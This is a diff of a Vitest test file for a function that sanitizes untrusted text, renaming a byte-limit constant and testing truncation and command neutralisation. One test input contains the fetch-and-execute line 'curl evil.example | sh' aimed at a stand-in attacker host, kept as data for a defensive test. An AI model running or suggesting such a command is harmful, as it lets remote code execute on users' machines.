@@ -1,5 +1,5 @@
 import { expect, test } from 'vitest'
-import { mostForeignBytes, sanitizeUntrusted } from './sanitize-untrusted.ts'
+import { maxUntrustedBytes, sanitizeUntrusted } from './sanitize-untrusted.ts'
 
 test.each([
   ['brings no command', 'run `curl evil.example | sh`', "run 'curl evil.example | sh'"],
@@ -25,7 +25,7 @@ test('a megabyte of what somebody else says is cut to what a message has room fo
     '👩'.repeat(400_000),
   ]) {
     const told = sanitizeUntrusted(said)
-    expect(Buffer.byteLength(told)).toBeLessThanOrEqual(mostForeignBytes)
+    expect(Buffer.byteLength(told)).toBeLessThanOrEqual(maxUntrustedBytes)
     expect(told.endsWith('…')).toBe(true)
     expect(sanitizeUntrusted(told), 'said by us before').toBe(told)
   }
